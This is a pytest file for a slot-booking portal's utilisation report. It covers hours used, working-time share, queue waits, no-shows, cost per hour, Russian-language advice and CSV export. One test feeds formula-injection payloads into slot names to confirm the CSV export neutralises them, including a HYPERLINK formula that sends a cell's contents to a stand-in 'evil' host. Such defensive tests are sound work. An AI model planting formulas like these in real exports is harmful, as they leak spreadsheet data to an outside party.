"""The utilisation report: what the admin reads off the «Загрузка» tab and its CSV."""

import csv
import io
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import update

from services import analytics
from services.core import clock
from services.core.db import session_scope
from services.core.errors import DomainError, Forbidden
from services.core.models import Booking, QueueEntry, Slot, SlotSession

MSK = ZoneInfo("Europe/Moscow")
# Wednesday 25 November 2026, 18:00 in Moscow.
NOW = datetime(2026, 11, 25, 18, 0, tzinfo=MSK)


def msk(day: int, hour: int, minute: int = 0) -> datetime:
    return datetime(2026, 11, day, hour, minute, tzinfo=MSK).astimezone(UTC)


def _work(user_id: int, slot_id: str, start: datetime, end: datetime | None) -> SlotSession:
    return SlotSession(slot_id=slot_id, user_id=user_id, started_at=start, ended_at=end, end_reason="released")


def _slots_added_on(when: datetime) -> None:
    with session_scope() as session:
        session.exec(update(Slot).values(created_at=when))


@pytest.fixture
def week_of_work(make_user, demo_slots):
    clock.freeze(NOW)
    _slots_added_on(msk(1, 9))
    anna, boris = make_user("anna"), make_user("boris")
    rows = []
    # ppx-1: four whole working days (Thu, Fri, Mon, Tue 09-21) and two weekend hours.
    for day in (19, 20, 23, 24):
        rows.append(_work(anna.id, "ppx-1", msk(day, 9), msk(day, 21)))
    rows.append(_work(boris.id, "ppx-1", msk(21, 10), msk(21, 12)))
    # nbp: three hours on Tuesday.
    rows.append(_work(boris.id, "nbp", msk(24, 10), msk(24, 13)))
    # gem-dt: 24 working hours, still running now for the last 3 of them; people queued for it.
    rows.append(_work(anna.id, "gem-dt", msk(23, 9), msk(23, 21)))
    rows.append(_work(anna.id, "gem-dt", msk(24, 12), msk(24, 21)))
    rows.append(_work(boris.id, "gem-dt", msk(25, 15), None))
    # A session that ended before the week began is not counted.
    rows.append(_work(boris.id, "nbp", msk(10, 10), msk(10, 12)))
    for minute in (0, 10, 20):
        joined = msk(24, 14, minute)
        rows.append(
            QueueEntry(
                slot_id="gem-dt",
                user_id=boris.id,
                joined_at=joined,
                status="claimed",
                offered_at=joined + timedelta(minutes=30),
                ended_at=joined + timedelta(minutes=32),
            )
        )
    rows.append(
        Booking(
            slot_id="ppx-1",
            user_id=boris.id,
            starts_at=msk(24, 22),
            ends_at=msk(24, 23),
            status="expired",
            created_at=msk(24, 8),
        )
    )
    with session_scope() as session:
        session.add_all(rows)
    return make_user("boss", admin=True)


def test_week_report_counts_hours_working_share_waits_no_shows_and_cost(week_of_work):
    report = analytics.utilisation(week_of_work.id, "week")
    # Wed 18:00-21:00, Thu, Fri, Mon, Tue 09-21, Wed 09:00-18:00.
    assert report.work_hours == 60.0
    rows = {r.slot_id: r for r in report.slots}
    ppx = rows["ppx-1"]
    assert (ppx.sessions, ppx.hours_used, ppx.work_pct, ppx.no_shows) == (5, 50.0, 80.0, 1)
    assert ppx.verdict == "busy"
    assert ppx.cost_per_hour == pytest.approx(200 * 7 / 30 / 50, abs=0.01)
    nbp = rows["nbp"]
    assert (nbp.sessions, nbp.hours_used, nbp.work_pct, nbp.verdict) == (1, 3.0, 5.0, "idle")
    gem = rows["gem-dt"]
    assert (gem.hours_used, gem.work_pct, gem.queue_waits, gem.avg_wait_minutes) == (24.0, 40.0, 3, 30.0)
    assert gem.verdict == "busy"
    unused = rows["lov-1"]
    assert (unused.hours_used, unused.cost_per_hour, unused.verdict) == (0.0, None, "idle")
    advice = "\n".join(report.recommendations)
    assert "Perplexity Max #1: занят 80% рабочего времени — рассмотрите добавление слота" in advice
    assert "Gemini Ultra — Deep Think: в очереди ждали в среднем 30 мин (3 раза)" in advice
    idle_line = report.recommendations[-1]
    assert idle_line.startswith("Заняты меньше 10% рабочего времени: Perplexity Max #2 (0%),")
    assert "Nano Banana Pro (5%)" in idle_line and "Perplexity Max #1" not in idle_line
    # Every slot but ppx-1 and gem-dt: 200 * 4 + 250 * 2 + 50 * 2.
    assert idle_line.endswith("рассмотрите отказ, экономия до $1400/мес")


def test_heat_map_puts_busy_hours_on_their_local_weekday_and_hour(week_of_work):
    report = analytics.utilisation(week_of_work.id, "week")
    saturday, monday = 5, 0
    # One Saturday in the week, ten slots: ppx-1 busy 10:00-12:00 is a tenth of the capacity.
    assert report.heat[saturday][10] == report.heat[saturday][11] == 10.0
    assert report.heat[saturday][12] == 0.0
    # Monday 09-21: ppx-1 and gem-dt busy.
    assert report.heat[monday][9] == 20.0 and report.heat[monday][21] == 0.0


def test_day_report_starts_at_local_midnight_and_counts_the_running_session(week_of_work):
    report = analytics.utilisation(week_of_work.id, "day")
    assert report.start == msk(25, 0)
    assert report.work_hours == 9.0
    gem = next(r for r in report.slots if r.slot_id == "gem-dt")
    assert (gem.sessions, gem.hours_used) == (1, 3.0)


def test_csv_export_has_a_row_per_slot_with_the_same_figures(week_of_work):
    report = analytics.utilisation(week_of_work.id, "month")
    rows = list(csv.reader(io.StringIO(analytics.to_csv(report))))
    assert rows[0][0].startswith("Период: 26.10.2026 18:00")
    assert rows[1][:4] == ["slot_id", "Сервис", "Сессий", "Часов"]
    by_id = {r[0]: r for r in rows[2:]}
    assert len(by_id) == 10
    assert by_id["nbp"][2:4] == ["2", "5.0"]
    assert by_id["ppx-1"][7] == "1"


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(week_of_work):
    names = {"nbp": '=HYPERLINK("http://evil/?"&A1,"x")', "gpt-1": "+1+1", "ppx-1": "@SUM(A1)", "hf-1": "\t-2"}
    with session_scope() as session:
        for slot_id, name in names.items():
            slot = session.get(Slot, slot_id)
            slot.service_name = name
            session.add(slot)
    rows = list(csv.reader(io.StringIO(analytics.to_csv(analytics.utilisation(week_of_work.id, "month")))))
    by_id = {r[0]: r for r in rows[2:]}
    for slot_id, name in names.items():
        assert by_id[slot_id][1] == "'" + name
    # Figures stay plain numbers.
    assert by_id["nbp"][2:4] == ["2", "5.0"]


def test_report_refuses_regular_users_and_unknown_periods(week_of_work, make_user):
    anna = make_user("carl")
    with pytest.raises(Forbidden):
        analytics.utilisation(anna.id, "week")
    with pytest.raises(DomainError):
        analytics.utilisation(week_of_work.id, "year")


def test_with_no_history_nothing_is_judged_and_the_tab_says_why(make_user, demo_slots):
    clock.freeze(NOW)
    _slots_added_on(msk(1, 9))
    boss = make_user("boss", admin=True)
    report = analytics.utilisation(boss.id, "month")
    assert report.recommendations == []
    assert {r.verdict for r in report.slots} == {"unknown"}
    assert report.history_note.startswith("Рекомендаций пока нет: сессий ещё не было.")
    assert "3 рабочих дней" in report.history_note


def _only_session(make_user, start: datetime, end: datetime):
    """Slots added long ago, one session of ppx-1 ever; the admin who reads the report."""
    clock.freeze(NOW)
    _slots_added_on(msk(1, 9))
    boss, anna = make_user("boss", admin=True), make_user("anna")
    with session_scope() as session:
        session.add(_work(anna.id, "ppx-1", start, end))
    return boss


def test_a_day_of_records_is_not_enough_to_advise_cancelling(make_user, demo_slots):
    boss = _only_session(make_user, msk(25, 10), msk(25, 12))
    report = analytics.utilisation(boss.id, "month")
    assert report.recommendations == []
    assert "рассмотрите отказ" not in " ".join(report.recommendations)
    assert report.history_note == (
        "Рекомендаций пока нет: для оценки нужно не меньше 3 рабочих дней истории в выбранном периоде "
        "(36 рабочих часов), а записи начинаются 25.11.2026."
    )


def test_cost_per_hour_is_shown_from_one_hour_of_use(week_of_work, make_user):
    anna = make_user("olga")
    with session_scope() as session:
        session.add(_work(anna.id, "hf-1", msk(24, 10), msk(24, 10, 40)))
        session.add(_work(anna.id, "lov-1", msk(24, 10), msk(24, 11)))
    rows = {r.slot_id: r for r in analytics.utilisation(week_of_work.id, "week").slots}
    assert rows["hf-1"].hours_used == 0.7 and rows["hf-1"].cost_per_hour is None
    assert rows["lov-1"].cost_per_hour == pytest.approx(50 * 7 / 30, abs=0.01)
    rows = list(csv.reader(io.StringIO(analytics.to_csv(analytics.utilisation(week_of_work.id, "week")))))
    assert {r[0]: r for r in rows[2:]}["hf-1"][9] == ""


def test_a_slot_added_yesterday_waits_for_its_own_history(week_of_work):
    with session_scope() as session:
        slot = session.get(Slot, "lov-1")
        slot.created_at = msk(24, 12)
        session.add(slot)
    report = analytics.utilisation(week_of_work.id, "week")
    rows = {r.slot_id: r for r in report.slots}
    assert rows["lov-1"].verdict == "unknown" and rows["nbp"].verdict == "idle"
    assert "Lovable Team" not in report.recommendations[-1]
    assert report.history_note == "Пока без оценки (меньше 3 рабочих дней истории в периоде): Lovable Team."


def test_when_every_slot_is_idle_the_advice_is_not_to_cancel_them_all(make_user, demo_slots):
    boss = _only_session(make_user, msk(18, 10), msk(18, 11))
    report = analytics.utilisation(boss.id, "week")
    assert {r.verdict for r in report.slots} == {"idle"}
    assert report.recommendations == [
        "Все подписки заняты меньше 10% рабочего времени. Прежде чем отказываться от них, "
        "проверьте, что сотрудники знают о портале и пользуются им."
    ]


def test_todays_load_per_category_counts_the_booking_hours_so_far(make_user, demo_slots):
    clock.freeze(NOW)  # 18:00: nine of the twelve booking hours have passed
    anna = make_user("anna")
    with session_scope() as session:
        session.add(_work(anna.id, "ppx-1", msk(25, 9), msk(25, 18)))  # one of four РЕСЕРЧ slots, all day
        session.add(_work(anna.id, "gpt-1", msk(24, 20), msk(25, 12)))  # from yesterday: 09-12 counts
    loads = {c.category: c for c in analytics.today_by_category(clock.now())}
    assert (loads["РЕСЕРЧ"].pct, loads["РЕСЕРЧ"].level) == (33, "mid")  # one of three slots busy all along
    assert (loads["REASONING"].pct, loads["REASONING"].level) == (33, "mid")  # its one slot busy 3 of 9 hours
    assert (loads["КОД"].pct, loads["КОД"].level, loads["КОД"].accent) == (0, "low", "#f97316")
    clock.freeze(msk(25, 8))  # before opening: nothing to show yet
    assert analytics.today_by_category(clock.now()) == []
